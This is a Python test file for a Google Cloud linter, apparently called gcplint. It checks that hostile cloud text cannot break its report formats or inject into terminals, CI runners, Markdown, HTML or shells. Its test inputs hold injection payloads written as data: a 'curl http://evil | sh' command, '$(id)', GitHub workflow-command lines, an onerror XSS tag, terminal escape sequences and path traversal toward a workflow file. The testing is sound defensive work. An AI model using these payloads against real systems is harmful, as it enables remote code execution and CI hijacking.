"""Cloud text is untrusted: whatever a display name, resource name, label, IAM condition title or
API error message holds (controls, escape sequences, surrogates, markup, `::error` lines,
backticks, `]]>`), every format still parses with its standard parser and nothing it holds
reaches a terminal, a CI runner, a Markdown renderer or a shell as anything but text.

A property test fills every string of a report with arbitrary Unicode; a regression test scans
an emulator world whose alert policy and resources carry the hostile string of issue 16.
"""

from __future__ import annotations

import csv
import io
import json
import os
import posixpath
import re
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import jsonschema
from gcplint_checks._shell import sh
from helpers import ROOT, project, run_cli, world
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gcplint.checks.docs import DOCS_URL
from gcplint.checks.plugins import load_checks
from gcplint.collect import registry
from gcplint.config import Suppression
from gcplint.environment import Environment
from gcplint.gate.baseline import Comparison, Entry
from gcplint.gate.verdict import Gate
from gcplint.model import Reason, Result, Severity, Status, Suppressed
from gcplint.report import FORMATS, RenderOptions, Report, ScannedProject, render
from gcplint.report.csv import COLUMNS, FORMULA
from gcplint.report.diff import Side, compare
from gcplint.report.diff import render as render_diff
from gcplint.report.github import PER_TYPE, annotation
from gcplint.report.html_assets import JS
from gcplint.report.merge import merge
from gcplint.report.sarif import pseudo_path
from gcplint.safetext import printable

SPECS = [c.spec for c in load_checks()]
SARIF_SCHEMA = json.loads((ROOT / "tests" / "data" / "sarif-2.1.0.json").read_text())
HOSTILE = (
    "x\n::error file=evil.py,line=1::INJECTED \x1b]0;TITLE\x07 \x1b]8;;http://evil/\x07link"
    " <b>md</b> [x](http://evil) \x0b \x01 ]]> \ud800"
)
PIECES = [
    HOSTILE,
    "\n::error::x",
    "\r\n::add-mask::secret",
    "::stop-commands::tok",
    "##[error]x",
    "##vso[task.setvariable variable=x]y",
    "\x1b[2J",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "\u202e",
    "\u2028",
    "\x85",
    "\x00",
    "\x7f",
    "\t",
    "`",
    "```",
    "|",
    "\\",
    "<img src=x onerror=alert(1)>",
    "<b>",
    "[l](http://evil)",
    "![i](http://evil/i.png)",
    "http://evil.example/x",
    "www.evil.example",
    "a@evil.example",
    "]]>",
    "&amp;",
    "%0A",
    "..",
    "/../../.github/workflows/deploy.yml",
    "\ud800",
    "\udfff\ud800",
    "\U0001f600",
    "\ufffe\uffff",
    "' ; curl http://evil | sh #",
    "$(id)",
]
ANY_CHAR = st.characters(exclude_categories=[])  # surrogates (Cs) included
CLOUD_TEXT = st.lists(
    st.one_of(st.sampled_from(PIECES), st.text(ANY_CHAR, max_size=6)), max_size=4
).map("".join)
TEXT_FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
    "\ud800-\udfff\ufffe\uffff]"
)


# -- building a report from cloud text ----------------------------------------------------


@dataclass
class Texts:
    """Draws the report's strings, or replaces each by a harmless token (same text, same
    token; as many lines)."""

    draw: Callable[[], str]
    tokens: dict[str, str] | None = None

    def __call__(self) -> str:
        value = self.draw()
        if self.tokens is None:
            return value
        if value not in self.tokens:
            n = len(self.tokens)
            self.tokens[value] = "\n".join(f"t{n}x{k}" for k in range(value.count("\n") + 1))
        return "" if value == "" else self.tokens[value]


def build(s: Callable[[], str], flags: list[bool]) -> Report:
    """A report with every string from `s` (its structure from `flags`)."""
    flag = cycle(flags)
    ids = [s() or "p" for _ in range(2)]
    projects = [
        ScannedProject(ids[0], Environment.PROD, s(), None),
        ScannedProject(ids[1], None, None, s() or "unreadable"),
    ]
    results = []
    statuses = list(Status)
    for i, spec in enumerate(SPECS[:8]):
        status = statuses[i % len(statuses)]
        suppressed = None
        if next(flag):
            suppressed = Suppressed(s(), s(), date(2030, 1, 1), "external", s(), s())
        results.append(
            Result(
                spec.id,
                list(Severity)[i % 5],
                status,
                ids[i % 2],
                s(),
                s() if next(flag) else None,
                s(),
                Reason.PERMISSION_DENIED if status is Status.UNKNOWN else None,
                s() if next(flag) else None,
                suppressed,
                "new" if status is Status.FAIL and next(flag) else None,
                s() if next(flag) else None,
            )
        )
    stale = Suppression(s(), s(), s(), date(2020, 1, 1), s(), s(), s(), s(), s())
    now = datetime(2026, 1, 1, tzinfo=UTC)
    return Report(
        version="1.0",
        identity=s(),
        started=now,
        finished=now,
        checks=SPECS,
        projects=projects,
        results=results,
        gate=Gate(),
        expired=[stale],
        unused=[stale],
        baseline=Comparison(s(), 1, 1, [Entry("f" * 32, SPECS[0].id, ids[0], s(), s(), s(), s())]),
        notes=[s()],
        config=s(),
        scope=s(),
    )


def rendered(report: Report, fmt: str, **options: Any) -> str:
    out = io.StringIO()
    render(report, fmt, out, RenderOptions(**options))
    text = out.getvalue()
    text.encode("utf-8")  # writable: no lone surrogate
    return text


@contextmanager
def columns(width: int | None) -> Iterator[None]:
    saved = os.environ.pop("COLUMNS", None)
    if width is not None:
        os.environ["COLUMNS"] = str(width)
    try:
        yield
    finally:
        os.environ.pop("COLUMNS", None)
        if saved is not None:
            os.environ["COLUMNS"] = saved


# -- what each format must be, whatever the cloud said -----------------------------------


def check_text(text: str) -> None:
    """No control character but newline, no bidi control, no surrogate; no line a CI runner
    would read as a workflow command (`::cmd` at its start, `##[cmd]` or `##vso[cmd]` in it)."""
    assert not TEXT_FORBIDDEN.search(text), repr(TEXT_FORBIDDEN.search(text))
    for line in text.split("\n"):
        assert not line.lstrip().startswith("::") and not re.search(r"##(vso)?\[", line), line


def check_json(text: str) -> None:
    document = json.loads(text)
    json.dumps(document, ensure_ascii=False).encode("utf-8")  # no lone surrogate survives
    assert document["schema"] == "gcplint-report/v1"


def check_jsonl(text: str) -> None:
    lines = text.splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["record"] for r in records][-1] == "summary"
    assert len(text.split("\n")) == len(records) + 1  # one record a line


def check_junit(text: str) -> None:
    root = ET.fromstring(text.encode("utf-8"))
    assert root.tag == "testsuites"
    check_text(text)  # and readable in a CI log


def check_sarif(text: str) -> None:
    document = json.loads(text)
    errors = list(jsonschema.Draft202012Validator(SARIF_SCHEMA).iter_errors(document))
    assert errors == [], [e.message for e in errors[:5]]
    for result in document["runs"][0]["results"]:
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        parts = urlsplit(uri)
        assert not parts.scheme and not parts.netloc and not uri.startswith("/"), uri
        for path in (uri, unquote(uri)):  # even once decoded, it stays under gcp/
            assert posixpath.normpath(path).startswith("gcp/"), uri
            assert ".." not in path.split("/") and "." not in path.split("/"), uri


MARKDOWN = MarkdownIt("commonmark").enable("table").disable("text_join")
# ^ text_join would merge backslash escapes (text_special) back into the text around them


def check_markdown(text: str) -> None:
    """No HTML (but the `<br>` between fix commands), no image, no link but to the checks'
    documentation; no bare URL, www. or address in a run of unescaped text (GitHub would make
    it a link); every table row as many cells as its header."""
    tokens = MARKDOWN.parse(text)
    for token in tokens:
        assert token.type != "html_block", token.content
        run = ""
        for child in [*(token.children or []), None]:
            if child is not None and child.type == "text":
                run += child.content
                continue
            assert "://" not in run and "www." not in run.lower() and "@" not in run, run
            run = ""
            if child is None:
                continue
            assert child.type != "image", child
            assert child.type != "html_inline" or child.content == "<br>", child  # ours
            if child.type == "link_open":
                assert str(child.attrs["href"]).startswith(DOCS_URL), child.attrs
    cells: list[int] = []
    for token in tokens:
        if token.type == "tr_open":
            cells.append(0)
        elif token.type in ("th_open", "td_open"):
            cells[-1] += 1
        elif token.type == "table_close":
            assert len(set(cells)) == 1, cells
            cells = []
    assert not TEXT_FORBIDDEN.search(text)


def check_github(text: str, report: Report) -> None:
    """One command a line, each one of ours: cloud text never ends one or starts another."""
    assert "\r" not in text and text.endswith("\n")
    lines = text[:-1].split("\n")
    kinds = [annotation(report, r)[0] for r in [*report.active(), *report.unknown()]]
    shown = sum(min(kinds.count(k), PER_TYPE - (k == "notice")) for k in set(kinds))
    assert len(lines) == shown + 1
    for line in lines:
        assert re.match(r"::(error|warning|notice) title=gcplint ", line), line
    assert not TEXT_FORBIDDEN.search(text)


def check_csv(text: str, report: Report) -> None:
    """Parsed by the csv module: a header and one row per result, every row as many cells as
    the header, no cell that a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(COLUMNS) and len(rows) == len(report.results) + 1
    for row in rows:
        assert len(row) == len(COLUMNS), row
        for value in row:
            assert not value.startswith(FORMULA), value
    assert text.endswith("\r\n")


HTML_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section"),
    *("h1", "h2", "h3", "h4", "p", "a", "dl", "dt", "dd", "div", "table", "caption", "thead"),
    *("tbody", "tr", "th", "td", "ul", "li", "span", "code", "form", "fieldset", "legend"),
    *("label", "input", "select", "option", "noscript", "article", "script"),
}


class Page(HTMLParser):
    """The start tags of a page, and the text of its scripts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[str | None, str]] = []
        self.script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.script = True
            self.scripts.append((dict(attrs).get("type"), ""))

    def handle_endtag(self, tag: str) -> None:
        self.script = False

    def handle_data(self, data: str) -> None:
        if self.script:  # (the parser may hand a script's text over in pieces)
            kind, text = self.scripts[-1]
            self.scripts[-1] = (kind, text + data)


def check_html(text: str) -> Page:
    """Only the elements the report makes (no handler, no link out but the checks' own
    documentation), and two scripts: the JSON block, which parses, and the report's own."""
    page = Page(text)
    for tag, attrs in page.tags:
        assert tag in HTML_TAGS, tag
        assert not any(name.startswith("on") for name in attrs), attrs
        href = attrs.get("href")
        assert href is None or href.startswith("#") or any(href in s.doc for s in SPECS), href
    (kind, block), (mine, source) = page.scripts
    assert kind == "application/json" and mine is None and source == JS
    json.loads(block)
    assert block.isascii() and not TEXT_FORBIDDEN.search(text)
    return page


def check_every_format(report: Report) -> None:
    check_csv(rendered(report, "csv"), report)
    check_json(rendered(report, "json"))
    check_jsonl(rendered(report, "jsonl"))
    check_junit(rendered(report, "junit"))
    for profile in ("github", "full"):
        check_sarif(rendered(report, "sarif", sarif_profile=profile))
    check_markdown(rendered(report, "markdown"))
    check_github(rendered(report, "github"), report)
    check_html(rendered(report, "html"))
    for options, width in (({}, None), ({"verbose": True}, 40), ({"quiet": True}, None)):
        with columns(width):  # unwrapped (a file, a CI log), and wrapped to a terminal
            check_text(rendered(report, "text", **options))


def check_diffs(report: Report, label: str) -> None:
    """`report diff` both ways against the same scan without results (every finding new, then
    fixed; unknown results changed), and against itself (still failing), in every form."""
    empty = replace(report, results=[])
    for old, new in ((empty, report), (report, empty), (report, report)):
        diff = compare(Side(label, old), Side(label, new), Gate())
        forms = {}
        for fmt in ("text", "json", "markdown"):
            out = io.StringIO()
            render_diff(diff, fmt, out, verbose=True)
            forms[fmt] = out.getvalue()
        check_text(forms["text"])
        check_markdown(forms["markdown"])
        json.dumps(json.loads(forms["json"]), ensure_ascii=False).encode("utf-8")


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.data(), st.lists(st.booleans(), min_size=1, max_size=8))
def test_any_cloud_text_leaves_every_format_well_formed(data: Any, flags: list[bool]) -> None:
    strings: list[str] = []

    def draw() -> str:
        strings.append(data.draw(CLOUD_TEXT))
        return strings[-1]

    report = build(Texts(draw), flags)
    check_every_format(report)
    check_diffs(report, draw())
    # cloud text never makes a line of text output: as many lines as with harmless text
    replay = iter(strings)
    harmless = build(Texts(lambda: next(replay), {}), flags)
    # and no element of the HTML report: the same elements as with harmless text
    tags = [[tag for tag, _ in Page(rendered(r, "html")).tags] for r in (report, harmless)]
    assert tags[0] == tags[1]
    with columns(None):
        for options in ({}, {"verbose": True}, {"quiet": True}):
            assert len(rendered(report, "text", **options).split("\n")) == len(
                rendered(harmless, "text", **options).split("\n")
            )


def test_each_piece_everywhere() -> None:
    """Every string of a report the same piece, for each piece; then all of them at once."""
    for piece in [*PIECES, "".join(PIECES)]:
        check_every_format(build(lambda piece=piece: piece, [False]))


def test_printable_shows_what_it_hides() -> None:
    assert printable("a\x1b]0;t\x07\u202eb\n") == "a\\x1b]0;t\\x07\\u202eb\\x0a"
    assert printable("\ud800x\ud83d\ude00") == "\ufffdx\U0001f600"
    assert unicodedata.category(printable("\x9b")[0]) != "Cc"
    climbing = "//storage.googleapis.com/projects/p/buckets/../../../../.github/workflows/d.yml"
    assert pseudo_path(climbing) == "gcp/p/storage/buckets/_../_../_../_../.github/workflows/d.yml"


# -- the hostile string through a real scan -------------------------------------------------


def hostile_world() -> Any:
    """acme-prod whose alert policy, bucket, label and IAM condition carry the hostile string."""
    return world(
        {
            "acme-prod": {
                "project": project("acme-prod", "1001", labels={"env": "prod", "team": HOSTILE}),
                "enabledServices": ["monitoring.googleapis.com", "storage.googleapis.com"],
                registry.PROJECT_IAM_POLICY.name: {
                    "version": 3,
                    "etag": "BwXhZ1yQ2Ls=",
                    "bindings": [
                        {
                            "role": "roles/owner",
                            "members": [f"user:{HOSTILE}@acme.example"],
                            "condition": {"title": HOSTILE, "expression": "true"},
                        }
                    ],
                },
                registry.ALERT_POLICIES.name: [
                    {
                        "name": f"projects/acme-prod/alertPolicies/{HOSTILE}",
                        "displayName": HOSTILE,
                        "enabled": True,
                        "combiner": "OR",
                    }
                ],
                registry.BUCKETS.name: [
                    {
                        "name": f"b{HOSTILE}/../../../.github/workflows/deploy.yml",
                        "iamConfiguration": {"uniformBucketLevelAccess": {"enabled": False}},
                    }
                ],
            }
        }
    )


def test_the_hostile_string_through_a_scan_in_every_format(serve: Any, tmp_path: Path) -> None:
    emu = serve(hostile_world(), page_size=50)
    reports = [f"--report={fmt}={tmp_path / fmt}" for fmt in FORMATS]
    run = run_cli(
        "scan", "--api-base", emu.url, "--project", "acme-prod", "--format", "text", *reports
    )
    assert run.code in (1, 3), run.err
    out = {fmt: (tmp_path / fmt).read_text(encoding="utf-8") for fmt in FORMATS}
    assert "INJECTED" in out["json"] and "INJECTED" in run.out  # the policy was judged
    check_text(run.out)
    check_text(run.err)
    debug = run_cli("scan", "--api-base", emu.url, "--project", "acme-prod", "--debug", "-q")
    assert "gcplint: DEBUG:" in debug.err
    check_text(debug.err)
    check_text(debug.out)
    check_text(out["text"])
    check_json(out["json"])
    check_jsonl(out["jsonl"])
    check_csv((tmp_path / "csv").read_bytes().decode("utf-8"), load_report(tmp_path / "json"))
    check_junit(out["junit"])
    check_sarif(out["sarif"])
    check_markdown(out["markdown"])
    check_github(out["github"], load_report(tmp_path / "json"))
    check_html(out["html"])
    results = json.loads(out["json"])["results"]
    (fix,) = [r["remediation"] for r in results if r["check"] == "storage.uniform-access-off"]
    assert fix.startswith("gcloud storage buckets update $'gs://b") and "\n" not in fix
    # a report with lone surrogates (an older gcplint wrote them as `\ud800`) is read back
    # (`report merge`) clean, and its findings keep their identity
    old = tmp_path / "old.json"
    old.write_text(out["json"].replace("\\ufffd", "\\ud800"), encoding="utf-8")
    assert "\\ud800" in old.read_text()
    merged = run_cli("report", "merge", str(old), "--format", "json")
    check_json(merged.out)
    assert json.loads(merged.out)["results"] == results


def load_report(path: Path) -> Report:
    """A JSON report read back as `report merge` reads it (its gate: the default)."""
    return merge([path], SPECS, Gate())


def test_a_quoted_value_is_one_shell_word() -> None:
    """What bash makes of `sh(value)`: exactly `value`, one argument (NUL cannot be one)."""
    values = [p for p in PIECES if "\x00" not in p and not re.search("[\ud800-\udfff]", p)]
    values += ["plain-name", "", "a b", "it's", "\u00e9\u202e\x1b\n\U0001f600"]
    for value in values:
        proc = subprocess.run(
            ["bash", "-c", f"printf '%s\\0' {sh(value)}"], capture_output=True, check=True
        )
        assert proc.stdout == value.encode() + b"\0", value
    assert sh("acme-prod") == "acme-prod" and "\n" not in sh("a\nb")


def test_error_lines_are_printable(serve: Any) -> None:
    """`gcplint: error:` lines quote what they could not use; they stay one printable line."""
    emu = serve(hostile_world())
    path = "/no/" + HOSTILE.replace("\ud800", "")  # (a file name cannot hold a lone surrogate)
    for bad in (["--project", HOSTILE], ["--project", "acme-prod", "--config", path]):
        run = run_cli("scan", "--api-base", emu.url, *bad)
        assert run.code == 2 and run.err.startswith("gcplint: error:"), run.err
        check_text(run.err)
        assert "\\x1b]0;TITLE\\x07" in run.err


def test_error_info_metadata_is_repeated_only_when_it_has_the_form_of_a_name() -> None:
    """ErrorInfo metadata lands in the fix hint: an endpoint's arbitrary text never does."""
    import httplib2
    from googleapiclient.errors import HttpError

    from gcplint.collect.failures import classify

    def failure(permission: str, service: str) -> Any:
        body = {
            "error": {
                "code": 403,
                "message": "denied",
                "status": "PERMISSION_DENIED",
                "details": [
                    {
                        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                        "reason": "IAM_PERMISSION_DENIED",
                        "metadata": {"permission": permission, "service": service},
                    }
                ],
            }
        }
        resp = httplib2.Response({"status": "403", "content-type": "application/json"})
        return classify(HttpError(resp, json.dumps(body).encode()))

    real = failure("cloudsql.instances.list", "sqladmin.googleapis.com")
    assert (real.permission, real.service) == ("cloudsql.instances.list", "sqladmin.googleapis.com")
    hostile = failure("x; curl http://evil | sh #", "evil\n::error::x")
    assert (hostile.permission, hostile.service) == (None, None)
